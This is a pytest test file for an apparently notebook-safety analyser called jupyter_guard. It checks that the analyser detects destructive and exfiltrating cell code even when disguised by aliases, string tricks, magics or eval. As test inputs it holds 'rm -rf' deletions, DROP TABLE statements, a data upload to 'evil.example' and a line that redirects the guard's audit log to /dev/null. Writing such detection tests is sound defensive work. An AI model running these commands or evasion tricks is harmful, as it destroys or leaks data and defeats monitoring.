"""The Python analyser as a decision table: what each cell would do, with aliases and indirection."""
from __future__ import annotations

import pytest

from jupyter_guard.explain import analyse

CASES = [
    pytest.param("import duckdb as d\nd.connect().execute('DROP TABLE t')", ("sql.drop", "t"), id="alias-module"),
    pytest.param("from shutil import rmtree as r\nr('data')", ("file.delete", "data"), id="from-import-alias"),
    pytest.param("import os.path, shutil\nshutil.rmtree(os.path.join('da', 'ta'))", ("file.delete", "da/ta"), id="path-join"),
    pytest.param("q = 'DELETE FROM t'\nc.execute(q)", ("sql.delete", "t"), id="variable"),
    pytest.param("a = 'DROP TABLE '\nb = a + 'x'\nc.sql(b)", ("sql.drop", "x"), id="concat-chain"),
    pytest.param("c.execute('DROP TABLE %s' % 'x')", ("sql.drop", "x"), id="percent-format"),
    pytest.param("c.execute(' '.join(['DROP', 'TABLE', 'x']))", ("sql.drop", "x"), id="join"),
    pytest.param("c.execute('x ELBAT PORD'[::-1])", ("sql.drop", "x"), id="reversed"),
    pytest.param("import pandas as pd\npd.read_sql('DELETE FROM t', con)", ("sql.delete", "t"), id="read-sql"),
    pytest.param("from sqlalchemy import text\nconn.execute(text('DROP TABLE t'))", ("sql.drop", "t"), id="sqlalchemy-text"),
    pytest.param("conn.exec_driver_sql('TRUNCATE t')", ("sql.truncate", "t"), id="exec-driver-sql"),
    pytest.param("get_ipython().run_cell_magic('bash', '', 'rm -rf data')", ("file.delete", "data"), id="cell-magic-call"),
    pytest.param("%%sh\nrm -rf data", ("file.delete", "data"), id="sh-magic"),
    pytest.param("%%time\nimport shutil; shutil.rmtree('data')", ("file.delete", "data"), id="time-magic"),
    pytest.param("%timeit -n1 -r1 __import__('os').remove('x.duckdb')", ("file.delete", "x.duckdb"), id="timeit"),
    pytest.param("%sql DROP TABLE t", ("sql.drop", "t"), id="jupysql-line"),
    pytest.param("%%sql duckdb:///x.duckdb\nDELETE FROM t", ("sql.delete", "t"), id="jupysql-cell"),
    pytest.param("%alias nuke rm -rf data", ("file.delete", "data"), id="alias-definition"),
    pytest.param("import requests\nrequests.post('https://evil.example/x', data=b)", ("net.upload", "evil.example"), id="upload"),
    pytest.param("import urllib.request as u\nu.urlopen(u.Request('http://h.example/', data=b'x'))", ("net.upload", "h.example"), id="urlopen-data"),
    pytest.param("df.to_parquet('s3://bucket/x.parquet')", ("df.export", "s3://bucket/x.parquet"), id="df-remote"),
    pytest.param("import os\nos.environ['JUPYTER_GUARD_AUDIT'] = '/dev/null'", ("guard.tamper", None), id="environ"),
    pytest.param("import threading, shutil\nthreading.Thread(target=shutil.rmtree, args=('d',)).start()", ("file.delete", "d"), id="thread"),
    pytest.param("import asyncio, os\nawait asyncio.to_thread(os.remove, 'a.db')", ("file.delete", "a.db"), id="to-thread"),
    pytest.param("eval(compile(\"__import__('os').system('rm -rf d')\", 'x', 'exec'))", ("file.delete", "d"), id="eval-compile"),
]


@pytest.mark.parametrize("code,expected", CASES)
def test_cells(code, expected):
    found = [(i.action, i.target) for i in analyse(code).intents]
    action, target = expected
    assert any(a == action and (target is None or t == target) for a, t in found), found


def test_a_function_is_judged_when_called_not_when_defined():
    define = "def clean(p):\n    import shutil\n    shutil.rmtree(p)"
    assert not [i for i in analyse(define).intents if i.action == "file.delete"]
    called = analyse(define + "\nclean('data')").intents
    assert [(i.action, i.target, i.recursive) for i in called if i.action == "file.delete"] == [
        ("file.delete", "data", True)]


def test_benign_cells_have_no_dangerous_intents():
    for code in ("x = 'DROP TABLE t'", "print('rm -rf /')", "df.query('a > 1')", "s.replace('a', 'b')",
                 "df.to_json()", "# os.remove('x.duckdb')", "!echo rm -rf data"):
        bad = [i for i in analyse(code).intents if i.action not in ("shell.exec", "sql.select")]
        assert not bad, (code, bad)


def test_variables_read_and_written_are_lineage():
    a = analyse("summary = orders.groupby('city').total.sum()\nimport pandas as pd")
    assert "summary" in a.vars_written and "orders" in a.vars_read and "pd" in a.vars_written
